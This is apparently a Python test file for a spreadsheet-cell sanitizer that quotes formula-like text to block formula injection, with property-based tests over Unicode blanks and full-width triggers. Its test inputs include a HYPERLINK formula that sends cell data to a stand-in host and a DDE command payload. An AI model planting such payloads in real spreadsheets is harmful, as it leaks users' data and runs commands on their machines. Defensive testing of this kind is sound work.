"""Formula-like text made inert for spreadsheets; everything else, numbers above all, untouched."""

from __future__ import annotations

import re
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from schoolnet.core.cellsafety import is_formula_like, neutralize

# The rule written independently of the module: a tab, CR or NUL first; or, past any Unicode
# white space and zero-width characters, one of = + - @ or their full-width forms.
DANGEROUS = re.compile(r"[\t\r\x00]|[\s\u200b\u200c\u200d\u2060\ufeff]*[=+\-@＝＋－＠]")
BLANKS = " \t\r\n\x0b\x0c\u00a0\u3000\u2003\u200b\ufeff"
TRIGGERS = "=+-@＝＋－＠"

# Text biased towards the interesting starts: blanks, triggers, quotes, Thai, then anything.
cell_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(list(BLANKS + TRIGGERS + "'\x00–−|%ก")),
        st.characters(codec="utf-8"),
    )
)


def dangerous(text: str) -> bool:
    return DANGEROUS.match(text) is not None


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")',
        "=cmd|' /C calc'!A0",  # DDE
        "+66 54 123 456",
        "-1+2",
        "-",
        "@SUM(A1)",
        "\t=1+1",
        "\tโรงเรียน",  # a leading tab alone is enough
        "\r\n@x",
        "\x00x",
        "  =1+1",
        "\u3000=1+1",  # ideographic space
        "\n\u00a0+1",
        "\u200b=1+1",  # zero-width space
        "＝1+1",  # full-width forms, as Thai/CJK input methods type them
        "＋1",
        "－1",
        "＠SUM(A1)",
    ],
)
def test_formula_like_text_gets_a_quote(text: str) -> None:
    assert is_formula_like(text)
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "บ้านแม่ทะ",
        "สพม.ลำปาง ลำพูน",
        "a=b",
        "1-2",
        "054-123456",
        "'=1+1",  # already quoted: left alone, so neutralizing twice changes nothing
        "",
        "   ",
        "\n",
        "–5",  # en dash and minus sign are not operators to a spreadsheet
        "\u22125",
        "ค่า = 5",
    ],
)
def test_other_text_is_unchanged(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralize(text) is text


@pytest.mark.parametrize(
    "value",
    [-5, -1.5, 0, 1290.0, True, None, Decimal("-3"), date(2018, 1, 3), datetime(2018, 1, 3, 6)],  # noqa: DTZ001 - cells are naive
)
def test_numbers_dates_and_none_are_returned_as_they_are(value: Any) -> None:
    assert neutralize(value) is value


@given(cell_text)
@example("\t")
@example(" \r=")
def test_no_neutralized_text_starts_a_formula(text: str) -> None:
    out = neutralize(text)
    assert not out.startswith(("\t", "\r", "\x00"))
    assert not out.lstrip().startswith(tuple(TRIGGERS))
    assert not dangerous(out)
    # Nothing typed is lost: the cell is the text itself, at most behind one quote.
    assert out in (text, "'" + text)
    assert neutralize(out) == out


@given(cell_text.filter(lambda text: not dangerous(text)))
def test_safe_text_is_identity(text: str) -> None:
    assert neutralize(text) == text


@given(st.text(alphabet=BLANKS), st.sampled_from(list(TRIGGERS)), cell_text)
def test_a_trigger_behind_blanks_is_neutralized(blanks: str, trigger: str, rest: str) -> None:
    text = blanks + trigger + rest
    assert neutralize(text) == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers(number: float) -> None:
    assert neutralize(number) == number
    assert type(neutralize(number)) is type(number)
